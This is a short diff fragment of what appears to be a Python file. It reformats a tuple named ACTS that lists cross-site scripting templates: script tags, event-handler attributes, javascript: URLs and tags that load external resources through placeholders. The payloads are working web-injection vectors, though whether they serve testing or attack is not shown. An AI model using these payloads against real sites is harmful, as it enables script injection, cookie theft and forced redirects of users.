@@ -20,10 +20,10 @@ ACTS = (
     "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg><script>{x}</script></svg>",
     "<body onload={x}>",
     "<iframe srcdoc='<script>parent.{x}</script>'>", "<a href='javascript:{x}'>x</a>", "<input autofocus onfocus={x}>",
-    "<details open ontoggle={x}>", "<video><source "
-        "onerror={x}></video>", "<math><mi xlink:href='javascript:{x}'>", "<object data={u}>",
-    "<link rel=stylesheet "
-        "href={u}>", "<img src={u}>", "<meta http-equiv=refresh content='0;url={u}'>", "<base href={u}>",
+    "<details open ontoggle={x}>", "<video><source onerror={x}></video>",
+    "<math><mi xlink:href='javascript:{x}'>", "<object data={u}>",
+    "<link rel=stylesheet href={u}>",
+    "<img src={u}>", "<meta http-equiv=refresh content='0;url={u}'>", "<base href={u}>",
     "<style>@import '{u}';</style>", "<form action={u}><button autofocus>", "<div style='background:url({u})'>",
     "<script src={u}></script>",
     "<script type=importmap>{{}}</script>",
